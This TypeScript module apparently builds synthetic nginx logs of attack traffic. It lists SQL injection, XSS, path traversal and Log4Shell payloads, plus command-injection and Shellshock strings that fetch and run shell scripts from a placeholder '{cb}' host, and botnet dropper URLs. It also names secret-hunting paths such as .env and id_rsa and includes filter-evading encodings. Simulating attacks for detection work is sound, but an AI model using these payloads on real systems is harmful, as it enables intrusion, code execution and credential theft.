import type { Rng } from './rng.js';

/** SQL injection payloads, raw; `encodeVariant` turns them into what reaches the log. */
export const SQLI: readonly string[] = [
  "1' OR '1'='1",
  '1 OR 1=1',
  "1' AND SLEEP(5)-- -",
  '1 UNION SELECT NULL,NULL,NULL--',
  "-1' UNION ALL SELECT username,password FROM users-- -",
  "1'; DROP TABLE users--",
  '1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x7e,version(),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  "1' AND extractvalue(1,concat(0x7e,(select database())))-- -",
  '1) AND 1=2 UNION SELECT 1,2,3,4--',
  "' OR ''='",
  "admin'--",
  "1;WAITFOR DELAY '0:0:5'--",
  "1' AND 8712=8712 AND 'xYzA'='xYzA",
  '1 AND 5312=CAST((CHR(113)||CHR(106))||(SELECT 1) AS NUMERIC)',
  '1 UnIoN/**/SeLeCt/**/1,group_concat(table_name),3 FrOm information_schema.tables',
  "1' ORDER BY 10-- -",
  '(select(0)from(select(sleep(7)))v)',
];

export const XSS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  "<svg/onload=alert('xss')>",
  'javascript:alert(1)',
  "'-alert(1)-'",
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<ScRiPt>prompt(1)</sCrIpT>',
  '<details open ontoggle=confirm(1)>',
  '"><img src=//x.oastify.com>',
];

/** Path traversal: parameter values and raw paths, some already encoded by the tool. */
export const TRAVERSAL_VALUES: readonly string[] = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252f..%252fetc%252fpasswd',
  '....//....//....//etc/passwd',
  '..%5c..%5c..%5cwindows%5cwin.ini',
  '/etc/passwd%00.jpg',
  '../../../../proc/self/environ',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
];

export const TRAVERSAL_PATHS: readonly string[] = [
  '/static/../../../../etc/passwd',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/assets/..%252f..%252f..%252fetc/passwd',
];

export const TRAVERSAL_PARAMS: readonly string[] = [
  '/download.php?file=',
  '/index.php?page=',
  '/wp-content/plugins/simple-file-list/download.php?file=',
  '/api/v1/files?path=',
  '/image?filename=',
];

/** Log4Shell (CVE-2021-44228) lookups with the usual obfuscations; `{cb}` is the callback host. */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: literal Log4Shell lookups, not templates
export const LOG4SHELL: readonly string[] = [
  '${jndi:ldap://{cb}:1389/Exploit}',
  '${jndi:ldap://${hostName}.{cb}/a}',
  '${${lower:j}ndi:${lower:l}dap://{cb}/a}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{cb}/a}',
  '${jndi:dns://{cb}/a}',
  '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//{cb}/a}',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: literal Log4Shell lookups, not templates

/** Command injection: query values, IoT exploit paths, Shellshock. `{cb}` is the dropper host. */
export const CMDI_VALUES: readonly string[] = [
  ';cat /etc/passwd',
  '|id',
  '`id`',
  '$(id)',
  ';wget http://{cb}/x.sh -O- | sh',
  '&& curl http://{cb}/a.sh | bash',
  '127.0.0.1;uname -a',
  '|| ping -c 3 {cb}',
];

export const CMDI_PARAMS: readonly string[] = [
  '/ping.php?host=',
  '/cgi-bin/admin.cgi?cmd=',
  '/api/diag?target=',
  '/tools/nslookup?q=',
];

export const CMDI_PATHS: readonly string[] = [
  '/shell?cd+/tmp;rm+-rf+*;wget+http://{cb}/jaws;sh+/tmp/jaws',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{cb}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F{cb}%2Ft+-O-%7Csh%60)',
  '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
];

export const SHELLSHOCK_UA = '() { :; }; /bin/bash -c "wget http://{cb}/bins.sh -O /tmp/b; sh /tmp/b"';

/** Files nobody should serve, asked for by secret hunters. */
export const SENSITIVE: readonly string[] = [
  '/.env',
  '/.env.bak',
  '/.env.production',
  '/.git/config',
  '/.git/HEAD',
  '/wp-config.php.bak',
  '/wp-config.php~',
  '/config.php.bak',
  '/.aws/credentials',
  '/backup.sql',
  '/db.sql',
  '/dump.sql.gz',
  '/.htpasswd',
  '/server-status',
  '/phpinfo.php',
  '/info.php',
  '/.DS_Store',
  '/.svn/entries',
  '/id_rsa',
  '/.ssh/id_rsa',
  '/config/database.yml',
  '/actuator/env',
  '/actuator/heapdump',
  '/.vscode/sftp.json',
  '/docker-compose.yml',
  '/.npmrc',
  '/web.config',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/phpmyadmin/',
  '/pma/',
  '/admin/config.php',
  '/storage/logs/laravel.log',
  '/.well-known/security.txt.bak',
  '/config.json',
  '/credentials.json',
  '/.bash_history',
];

/** A dir-busting word list (dirb common.txt flavour). */
export const DIRBUST: readonly string[] = [
  'admin',
  'administrator',
  'backup',
  'backups',
  'old',
  'new',
  'test',
  'tmp',
  'temp',
  'dev',
  'staging',
  'api',
  'v1',
  'v2',
  'console',
  'login',
  'panel',
  'cpanel',
  'webadmin',
  'manager',
  'dashboard',
  'uploads',
  'files',
  'private',
  'secret',
  'hidden',
  'cgi-bin',
  'scripts',
  'include',
  'includes',
  'lib',
  'logs',
  'log',
  'db',
  'database',
  'sql',
  'data',
  'export',
  'import',
  'install',
  'setup',
  'config',
  'conf',
  'cfg',
  'portal',
  'user',
  'users',
  'members',
  'shop',
  'store',
  'cart',
  'checkout',
  'mail',
  'webmail',
  'roundcube',
  'mysql',
  'phpMyAdmin',
  'myadmin',
  'sites',
  'site',
  'web',
  'www',
  'html',
  'public',
  'static',
  'assets',
  'js',
  'css',
  'img',
  'images',
  'media',
  'download',
];

export const DIRBUST_EXT: readonly string[] = [
  '',
  '/',
  '.php',
  '.html',
  '.bak',
  '.zip',
  '.tar.gz',
  '.txt',
  '.asp',
  '.jsp',
];

/** Requests that are not HTTP at all (TLS on port 80, RDP and SSH probes): nginx answers 400. */
export const GARBAGE_REQUESTS: readonly string[] = [
  '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03\\xA5\\x1C\\x9Bz\\xD1\\x0E',
  '\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr',
  'SSH-2.0-Go',
  'PRI * HTTP/2.0',
  'GET /ab2h HTTP/1.1',
];

/** Scanner user agents, each with the number of requests the tool typically sends. */
export const SCANNER_UAS: readonly (readonly [string, number, number])[] = [
  ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n})', 200, 3000],
  ['sqlmap/1.8.4#stable (https://sqlmap.org)', 50, 600],
  ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 4, 40],
  ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 1, 2],
  ['Mozilla/5.0 zgrab/0.x', 1, 3],
  ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 50, 800],
  ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 40, 400],
  ['Wfuzz/3.1.0', 100, 1500],
  ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 100, 2000],
  ['gobuster/3.6', 100, 2000],
  ['Fuzz Faster U Fool v2.1.0-dev', 100, 2000],
  ['EmailCollector', 5, 40],
  ['Atomic_Email_Hunter/4.0', 5, 40],
  ['Mozilla/3.0 (compatible; Indy Library)', 2, 20],
];

/** How an attacking tool puts a raw payload into a URL. */
export function encodeVariant(rng: Rng, raw: string): string {
  switch (rng.int(0, 5)) {
    case 0:
      return encodeURIComponent(raw);
    case 1:
      return encodeURIComponent(raw).replace(/%20/g, '+');
    case 2:
      // Double encoding, to slip past a filter that decodes once.
      return encodeURIComponent(encodeURIComponent(raw));
    case 3:
      // Only what HTTP forbids: spaces and quotes; the rest raw (curl, python scripts).
      return raw.replace(/ /g, '%20').replace(/"/g, '%22');
    case 4:
      return raw.replace(/ /g, '+').replace(/"/g, '%22').replace(/#/g, '%23');
    default:
      // Upper and lower case hex mixed, as some tools do.
      return encodeURIComponent(raw).replace(/%([0-9A-F]{2})/g, (m, h: string) =>
        rng.chance(0.5) ? `%${h.toLowerCase()}` : m,
      );
  }
}

/**
 * nginx's escaping of `$request`, `$http_referer` and `$http_user_agent`: `"`, `\` and bytes
 * outside printable ASCII become `\xHH`.
 */
export function nginxEscape(text: string): string {
  if (!NEEDS_ESCAPE.test(text)) return text;
  return text.replace(NEEDS_ESCAPE_ALL, (ch) => `\\x${ch.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`);
}

const NEEDS_ESCAPE = /["\\\x00-\x1f\x7f-\uffff]/;
const NEEDS_ESCAPE_ALL = /["\\\x00-\x1f\x7f-\uffff]/g;
